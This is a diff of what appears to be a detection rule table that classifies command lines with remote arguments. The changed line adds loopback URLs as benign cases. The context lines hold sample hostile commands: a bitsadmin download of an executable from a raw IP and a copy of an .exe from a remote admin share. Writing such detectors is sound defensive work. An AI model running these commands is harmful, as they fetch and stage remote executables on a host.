@@ -33,7 +33,7 @@ TRAITS: tuple[Row, ...] = (
         ("://", "\\\\", "//", ".1", ".2", ".3", ".4", ".5", ".6", ".7", ".8", ".9"),
         remote_argument,
         ("bitsadmin /transfer n http://1.2.3.4/Svn.exe c:\\Users\\Public\\Svn.exe", "copy \\\\10.0.0.5\\c$\\x.exe ."),
-        ("curl http://localhost:8080/health", "ping -n 1 127.0.0.1"),
+        ("curl http://localhost:8080/health http://0.0.0.0:1/a http://[::1]:1/a", "ping -n 1 127.0.0.1"),
     ),
     Row(
         Trait.WRITABLE_TARGET,
